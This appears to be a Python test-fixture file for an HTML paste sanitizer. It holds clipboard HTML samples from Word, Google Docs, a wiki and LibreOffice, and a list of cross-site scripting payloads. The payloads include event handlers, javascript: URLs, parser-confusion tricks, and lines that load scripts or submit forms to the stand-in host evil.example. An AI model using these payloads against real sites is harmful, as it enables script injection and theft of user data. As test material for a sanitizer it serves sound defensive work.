"""HTML as Word, Google Docs, a wiki and LibreOffice put it on the clipboard, and payloads that try to run something."""

WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15"><!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]-->
<style><!-- p.MsoNormal {color:red} --></style></head><body lang=EN-GB><!--StartFragment-->
<p class=MsoTitle>The Speech<o:p></o:p></p><h1>Before<o:p></o:p></h1><h2>The hall<o:p></o:p></h2>
<p class=MsoNormal style='color:red;font-family:"Times New Roman"'>In <b>1956</b> he <i>spoke</i><a style='mso-footnote-id:ftn1'
href="#_ftn1" name="_ftnref1" title=""><span class=MsoFootnoteReference><span style='mso-special-character:footnote'>
<![if !supportFootnotes]><span class=MsoFootnoteReference>[1]</span><![endif]></span></span></a> for long.<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span
style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>First</p>
<p class=MsoListParagraphCxSpMiddle style='mso-list:l0 level2 lfo1'><![if !supportLists]><span
style='mso-list:Ignore'>1.<span>&nbsp;&nbsp;</span></span><![endif]>Inner</p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='mso-list:Ignore'>·<span>&nbsp;&nbsp;</span></span><![endif]>Last</p>
<p class=MsoNormal><img width=40 src="file:///C:/x/image001.png"><img src="https://tracker.example/p.gif"></p>
<table class=MsoTableGrid border=1><tr><td><p class=MsoNormal>Year</p></td><td><p class=MsoNormal>Event</p></td></tr>
<tr><td><p class=MsoNormal>1956</p></td><td><p class=MsoNormal>Speech</p></td></tr></table>
<p class=MsoNormal><a href="https://example.org/a">A link</a> and <a href="file:///C:/own.docx">a file</a></p>
<div style='mso-element:footnote-list'><![if !supportFootnotes]><br clear=all><hr align=left size=1 width="33%"><![endif]>
<div style='mso-element:footnote' id=ftn1><p class=MsoFootnoteText><a style='mso-footnote-id:ftn1' href="#_ftnref1"
name="_ftn1" title=""><span class=MsoFootnoteReference>[1]</span></a> See the <i>archive</i>.</p></div></div>
<!--EndFragment--></body></html>"""

GOOGLE = """<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-5a"><h2 dir="ltr"><span
style="font-size:16pt;color:#434343">Head</span></h2><p dir="ltr"><span style="font-weight:700">Bold</span><span> plain
</span><span style="font-style:italic">slanted</span><sup><a href="#ftnt1" id="ftnt_ref1">[1]</a></sup> <a
href="https://www.google.com/url?q=https://example.org/x%3Fa%3D1&amp;sa=D&amp;ust=1">away</a></p><ol start="3"><li
dir="ltr"><p dir="ltr"><span>Three</span></p></li></ol><hr><div><p><a href="#ftnt_ref1" id="ftnt1">[1]</a><span>&nbsp;A
note</span></p></div></b>"""

WIKI = """<div class="mw-parser-output"><h2>History</h2><p>Text<sup id="cite_ref-1" class="reference"><a
href="#cite_note-1">[1]</a></sup> and<sup id="cite_ref-1b" class="reference"><a href="#cite_note-1">[1]</a></sup> more<sup
id="cite_ref-2"><a href="#cite_note-2">[2]</a></sup>.</p><iframe src="https://maps.example"></iframe><form><input
name=q><button>Go</button></form><div class="reflist"><ol class="references"><li id="cite_note-1"><span
class="mw-cite-backlink">^ <a href="#cite_ref-1"><sup>a</sup></a> <a href="#cite_ref-1b"><sup>b</sup></a></span> <span
class="reference-text">Book <i>One</i>.</span></li><li id="cite_note-2"><b><a href="#cite_ref-2">^</a></b> Two.</li></ol>
</div><script>track()</script></div>"""

LIBRE = """<h1 class="western">Title</h1><p class="western"><font color="#000000">Words</font><a class="sdfootnoteanc"
name="sdfootnote1anc" href="#sdfootnote1sym"><sup>1</sup></a></p><ul><li><p>One</p></li></ul><div id="sdfootnote1"><p
class="sdfootnote"><a class="sdfootnotesym" name="sdfootnote1sym" href="#sdfootnote1anc">1</a>Its note.</p></div>"""

PAYLOADS = [
    "<script>hit()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>", "<img src='https://evil.example/p.gif'>", "<img src=//evil.example/p.gif>",
    "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><a xlink:href='javascript:hit()'><text>x</text></a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src onerror=hit()>",
    "<math href='javascript:hit()'>x</math>", "<iframe src='javascript:hit()'></iframe>", "<iframe srcdoc='<script>hit()</script>'>",
    "<object data='javascript:hit()'></object>", "<embed src='javascript:hit()'>", "<a href='javascript:hit()'>x</a>",
    "<a href='JaVaScRiPt:hit()'>x</a>", "<a href=' javascript:hit()'>x</a>", "<a href='java\tscript:hit()'>x</a>",
    "<a href='java&#10;script:hit()'>x</a>", "<a href='&#106;avascript:hit()'>x</a>", "<a href='\x01javascript:hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>", "<a href='vbscript:hit()'>x</a>", "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>", "<a href='\\\\evil.example'>x</a>", "<a href='/\t/evil.example'>x</a>",
    "<p onclick=hit()>x</p>", "<p onmouseover='hit()' style='background:url(javascript:hit())'>x</p>",
    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example)}</style>", "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>", "<form action=//evil.example><input name=p><button>Go</button></form>",
    "<button formaction='javascript:hit()'>x</button>", "<input autofocus onfocus=hit()>", "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()>", "<marquee onstart=hit()>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<textarea><img title='</textarea><img src=x onerror=hit()>'>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>", "<template><script>hit()</script></template>",
    "<!--><img src=x onerror=hit()>-->", "<![CDATA[<img src=x onerror=hit()>]]>", "<?xml version='1.0'?><img src=x onerror=hit()>",
    "<table background='javascript:hit()'><tr><td background=x>x</td></tr></table>", "<p id=live>x</p><a id=main href=#main>x</a>",
    "<sup class='footnote-ref'><a id='fnref-1' href='javascript:hit()' onclick=hit()>1</a></sup>", "<li id='save-state'>x</li>",
    "<a href='https://ok.example' target=_blank onclick=hit()>x</a>", "<p><a href='https://ok.example/\"onmouseover=hit()'>x</a></p>",
    "<!--[if gte IE 4]><script>hit()</script><![endif]-->", "<plaintext><script>hit()</script>",
    "<frameset onload=hit()><frame src=x>",
    "<body onload=hit()>x", "<html manifest=x><head><title><script>hit()</script></title></head>x",
]  # fmt: skip
